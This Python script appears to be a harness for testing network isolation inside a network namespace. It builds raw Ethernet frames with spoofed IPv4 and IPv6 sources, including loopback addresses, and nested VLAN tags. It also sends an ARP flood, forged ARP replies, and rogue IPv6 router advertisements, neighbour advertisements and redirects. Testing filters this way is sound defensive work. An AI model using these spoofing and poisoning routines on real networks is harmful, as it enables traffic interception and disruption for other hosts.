"""Frames that nobody but an attacker sends.

  frames.py hear                            prints each datagram at port 9999 of both families, until the last one came
  frames.py forge OWN4 OWN6 TO4 TO6 FROM…   sends datagrams there from addresses FROM that are not the sender's
  frames.py speak OWN4 OWN6 TO4 TO6         tells about neighbours, routes and redirects

The last two send by eth0 of their network namespace, and end with the datagrams "last" from their own addresses.
"""
import os
import socket
import struct
import sys

HOST = bytes.fromhex("02706f640001")
OWN = bytes.fromhex("02706f65abcd")  # not that of eth0
EVERYBODY = b"\xff" * 6
PORT = 9999
IPV4, IPV6, ARP, VLAN, PROVIDER_VLAN = 0x0800, 0x86DD, 0x0806, 0x8100, 0x88A8
# The kernel takes tags with the VLAN 0 off, at several places.
TAGS = [(), (VLAN,), (PROVIDER_VLAN,), (VLAN, VLAN), (PROVIDER_VLAN, VLAN), (VLAN, PROVIDER_VLAN), (VLAN,) * 3]


def checksum(data):
    data += b"\0" * (len(data) % 2)
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def packed(address):
    return socket.inet_pton(socket.AF_INET6 if ":" in address else socket.AF_INET, address)


def with_checksum(message, at, source, target, protocol):
    pseudo = packed(source) + packed(target) + struct.pack("!II", len(message), protocol)
    return message[:at] + struct.pack("!H", checksum(pseudo + message) or 0xFFFF) + message[at + 2:]


def packet(source, target, protocol, message, hops=64):
    if ":" in source:
        return struct.pack("!IHBB", 6 << 28, len(message), protocol, hops) + packed(source) + packed(target) + message
    header = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(message), 1, 0, hops, protocol, 0)
    header += packed(source) + packed(target)
    return header[:10] + struct.pack("!H", checksum(header)) + header[12:] + message


def datagram(source, target, text):
    message = struct.pack("!HHHH", PORT, PORT, 8 + len(text), 0) + text.encode()
    return packet(source, target, 17, with_checksum(message, 6, source, target, 17))


def icmpv6(source, target, kind, body):
    message = struct.pack("!BBH", kind, 0, 0) + body
    return packet(source, target, 58, with_checksum(message, 2, source, target, 58), hops=255)


def arp(operation, source, target):
    return struct.pack("!HHBBH", 1, IPV4, 6, 4, operation) + OWN + packed(source) + b"\0" * 6 + packed(target)


def frame(payload, protocol=None, tags=(), target=HOST):
    if protocol is None:
        protocol = IPV6 if payload[0] >> 4 == 6 else IPV4
    between = b"".join(struct.pack("!HH", tag, 0) for tag in tags)
    return target + OWN + between + struct.pack("!H", protocol) + payload


def send(frames, own4, own6, to4, to6):
    os.sched_setaffinity(0, {min(os.sched_getaffinity(0))})  # they arrive in this order
    raw = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    raw.bind(("eth0", 0))
    for each in frames + [frame(datagram(own4, to4, "last")), frame(datagram(own6, to6, "last"))]:
        raw.send(each)


def hear():
    by_ipv4 = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    by_ipv6 = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
    by_ipv6.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 1)
    by_ipv4.bind(("0.0.0.0", PORT))
    by_ipv6.bind(("::", PORT))
    print("hears", flush=True)
    for server in by_ipv4, by_ipv6:
        server.settimeout(20)
        text = ""
        while text != "last":
            text = server.recv(999).decode()
            print(text, flush=True)


def forged(own4, own6, to4, to6, *sources):
    pairs = [(each, to6 if ":" in each else to4) for each in sources]
    pairs += [(own4, "127.0.0.1"), (own6, "::1"), ("127.0.0.1", "127.0.0.1"), ("::1", "::1")]
    return [frame(datagram(source, target, f"forged {source} > {target} tags {len(tags)}"), tags=tags)
            for source, target in pairs for tags in TAGS]


def spoken(own4, own6, to4, to6):
    near, all_nodes = "fe80::1", "ff02::1"
    link = struct.pack("!BB", 1, 1) + OWN
    frames = [frame(arp(1, f"198.18.{i >> 8}.{i & 255}", "10.77.0.1"), ARP, target=EVERYBODY) for i in range(1500)]
    frames += [frame(arp(kind, each, to4), ARP) for kind in (1, 2) for each in (own4, to4, "10.77.0.1", "192.0.2.2")]
    route = struct.pack("!BBBBIII", 3, 64, 0xC0, 0, 1800, 1800, 0) + packed("2001:db8:bad::")
    advertisement = struct.pack("!BBHII", 64, 0, 1800, 0, 0) + link + route
    neighbour = struct.pack("!I", 0x60000000)
    for tags in TAGS:
        for source in near, own6:
            for target in all_nodes, to6:
                frames.append(frame(icmpv6(source, target, 134, advertisement), tags=tags))
                for each in to6, own6, "2001:db8::2":
                    frames.append(frame(icmpv6(source, target, 136, neighbour + packed(each) + b"\2" + link[1:]),
                                        tags=tags))
                    frames.append(frame(icmpv6(source, to6, 137, bytes(4) + packed(own6) + packed(each)), tags=tags))
        for i in range(200):
            request = bytes(4) + packed(to6) + link
            frames.append(frame(icmpv6(f"2001:db8:bad::{i:x}", to6, 135, request), tags=tags))
    return frames


if sys.argv[1] == "hear":
    hear()
else:
    send((forged if sys.argv[1] == "forge" else spoken)(*sys.argv[2:]), *sys.argv[2:6])
